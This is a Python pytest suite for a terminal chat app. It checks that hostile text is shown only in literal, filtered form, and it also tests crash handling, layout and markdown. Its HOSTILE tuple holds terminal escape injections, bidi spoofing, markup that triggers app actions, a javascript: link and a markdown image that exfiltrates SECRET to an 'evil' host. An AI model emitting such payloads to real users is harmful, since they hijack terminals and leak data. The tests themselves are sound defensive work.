"""Hostile text in every field, and endings: nothing reaches the terminal that a terminal would obey."""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime
from functools import reduce

import pytest
from fakes.app_driver import NARROW, WIDE, rows_of, seen, send, until
from fakes.facts import fact, finds
from fakes.growth import MAX_GROWTH, spent_s
from fakes.memories import memory
from fakes.scripted_model import ScriptedModel, says
from rich.segment import Segment
from textual.color import Color
from textual.strip import Strip
from textual.widgets import Input

from orca_core.model.errors import ModelUnavailable
from orca_core.model.memories import Status
from orca_core.model.views import Forecast, MemoryView
from orca_tui.app.chat.light_markdown import code_blocks, light_markdown
from orca_tui.app.records.kind import Line, bar, record_row
from orca_tui.app.widgets.text import MAX_DRAWN_CHARS, RowStyles, TerminalFilter, fitted, literal
from orca_tui.marks import ASCII_MARKS, UNICODE_MARKS

HOSTILE = (
    "\x1b]52;c;ZXZpbA==\x1b\\ \x1b]2;PWNED\x07",
    "\x1b[2J\x1b[HSPOOF\x1b[?1049l \x9b2J ok\rEVIL a\b\b \x7f",
    "abc \u202egpj.exe \u2066x\u2069 \U000e0041\U000e0042 \u200b\ufeff",
    "[@click=app.quit]x[/] [/] see [/etc/passwd] now [bold [b + should [$nosuch]",
    "[link=javascript:alert(1)]x[/link] [@click=\"app.screenshot('p.svg','/tmp')\"]y[/]",
    "![x](http://evil/?q=SECRET) [good](file:///etc/passwd) &#8238; &#27;",
    "a\x00b \ud800 café",
)
NOT_FOR_TERMINALS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)


@pytest.mark.parametrize("text", [" ".join(HOSTILE)], ids=["all-of-it"])
def test_hostile_text_is_shown_literally_everywhere(make_app, drive, text: str) -> None:
    async def scenario(app, pilot) -> None:
        engine = app.bridge.engine
        await engine.memories.add(f"a memory {text}", tags=["plain"])
        rows_of(app).ask_again()
        await send(app, pilot, f"{text} question about postgres")
        await send(app, pilot, f"/rename {text}")
        await send(app, pilot, f"/no-such-{text}")
        await engine.worker.finish()
        shots = [seen(app)]
        for keys in (("f3", "enter"), ("escape", "h"), ("escape", "e"), ("escape", "d"), ("escape", "f4", "enter")):
            await pilot.press(*keys)
            await pilot.pause()
            shots.append(seen(app))
        await pilot.press("escape", "escape", "f5")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "ctrl+s")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "f3", "w")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "escape", "ctrl+r")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape")
        app.main.transcript.last.focus()
        await pilot.press("enter")
        await pilot.pause()
        shots.append(seen(app))
        await pilot.press("escape", "escape", "f3", "slash")
        app.main.query_one("#memory-filter", Input).value = text
        await pilot.pause()
        shots.append(seen(app))
        assert app.is_running
        assert not [shot for shot in shots if NOT_FOR_TERMINALS.search(shot)]

    agent = ScriptedModel(finds(fact(f"User has {text}"[:150], "", replace=text)))
    model = ScriptedModel(says(f"{text} answer [m1]"), [ModelUnavailable(provider=text, detail=text)])
    drive(make_app(model, agent), scenario)


def test_the_filter_is_the_last_gate() -> None:
    segments = [Segment(text) for text in HOSTILE]
    shown = TerminalFilter().apply(segments, Color.parse("black"))
    assert not [segment for segment in shown if NOT_FOR_TERMINALS.search(segment.text)]


def test_a_line_that_did_not_change_is_cleaned_once(make_app) -> None:
    app, line = make_app(), Strip([Segment("the same line")])
    drawn = [
        reduce(lambda strip, gate: strip.apply_filter(gate, Color.parse("black")), app.get_line_filters(), line)
        for _ in range(2)
    ]
    assert drawn[0] is drawn[1]


def test_live_markup_in_a_memory_is_no_link(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        await app.bridge.engine.memories.add("[@click=app.quit]press me[/] please")
        rows_of(app).ask_again()
        await until(pilot, lambda: "[@click=app.quit]press me[/]" in seen(app))
        await pilot.click("#memory-list", offset=(12, 0))
        await pilot.pause()
        await pilot.press("escape")
        await pilot.pause()
        assert app.is_running
        assert app.return_code is None

    drive(make_app(), scenario)


@pytest.mark.long
def test_five_megabytes_stall_nothing(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        costs = []
        for chars in (500_000, 5_000_000):
            began = spent_s()
            await send(app, pilot, "go on")
            costs.append(spent_s() - began)
            assert len(app.main.transcript.last.said.answer) == chars
        assert costs[1] <= MAX_GROWTH * costs[0]

    answers = (says("word " * words, pieces=2) for words in (100_000, 1_000_000))
    drive(make_app(ScriptedModel(*answers)), scenario)


def test_a_crash_is_told_to_who_started_the_app_and_prints_no_locals(make_app, capfd) -> None:
    async def scenario() -> None:
        app = make_app()
        with pytest.raises(RuntimeError, match="boom"):
            async with app.run_test(size=WIDE) as pilot:
                await until(pilot, lambda: app.bridge.is_ready)
                await pilot.pause()  # what the start asked for has come
                secret = "sk-live-123456"  # a local that must not be printed
                app.call_later(fail, secret)
                await pilot.pause()
        assert isinstance(app.crash, RuntimeError)
        assert app.return_code == 1
        if app.bridge.is_ready:
            await app.bridge.engine.aclose()

    def fail(_secret: str) -> None:
        raise RuntimeError("boom")

    asyncio.run(scenario())
    assert "sk-live" not in "".join(capfd.readouterr())


def test_any_size_is_survived(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        await send(app, pilot, "hello")
        for size in ((1, 1), (20, 5), (200, 60), (99, 30), (140, 20), NARROW):
            await pilot.resize_terminal(*size)
            await pilot.pause()
        assert "hello" in seen(app)

    drive(make_app(), scenario)


def test_long_texts_are_drawn_to_a_limit_and_say_so() -> None:
    assert literal("x" * (MAX_DRAWN_CHARS + 1234)).plain.endswith("… +1,234")


@pytest.mark.parametrize("text", ["postgres 固定在 16，端口 5433", "e\u0301" * 40, "👩‍👩‍👧‍👦 family", "", "a\nb\tc"])
@pytest.mark.parametrize("width", [1, 7, 24, 60])
def test_a_row_has_exactly_its_width(text: str, width: int) -> None:
    from rich.cells import cell_len

    assert cell_len(fitted(text, width, UNICODE_MARKS)) == width


def test_a_bar_shows_halves() -> None:
    assert bar(0.35, 10, UNICODE_MARKS) == "━━━╸╌╌╌╌╌╌"
    assert bar(0.02, 10, ASCII_MARKS) == ".........."


def test_a_memory_row_carries_its_state_in_signs_and_words() -> None:
    from rich.style import Style

    styles = RowStyles(*[Style()] * 5)
    core = MemoryView(memory(pinned=True, weight=9.2), Status.CORE, Forecast(None, None), 0.92)
    row = record_row(core, "1", Line("likes tea", "9.2", 0.92, behind="core"), 60, UNICODE_MARKS, styles)
    text = "".join(segment.text for segment in row)
    assert text.startswith(" ★")
    assert text.rstrip().endswith("core")


def test_light_markdown_keeps_every_word() -> None:
    source = "# Title\n\ntext with `code` and **bold** and *lean*\n\n```py\nx = 1\n```\n- item\n> quoted\n"
    shown = light_markdown(source).plain
    for word in ("Title", "code", "bold", "lean", "x = 1", "item", "quoted"):
        assert word in shown
    assert code_blocks(source + "~~~\ny\n~~~") == ["x = 1", "y"]


def test_times_are_local() -> None:
    from orca_tui.times import ago

    at = datetime(2026, 11, 20, 12, tzinfo=UTC)
    assert ago(at, datetime(2026, 11, 20, 12, 5, tzinfo=UTC)) == "5 min ago"
    assert ago(at, datetime(2026, 11, 23, 12, tzinfo=UTC)) == "3 d ago"
    assert ago(at, at) == "just now"


def test_a_mistake_is_said_and_the_chat_goes_on(make_app, drive) -> None:
    async def scenario(app, pilot) -> None:
        async def broken() -> None:
            raise ZeroDivisionError("oops")

        app.bridge.ask(broken, lambda _none: None)
        await until(pilot, lambda: "a mistake in Orca: ZeroDivisionError: oops" in seen(app))
        await send(app, pilot, "hello")
        assert [type(error) for error in app.bridge.mistakes] == [ZeroDivisionError]
        app.bridge.mistakes.clear()

    drive(make_app(), scenario)
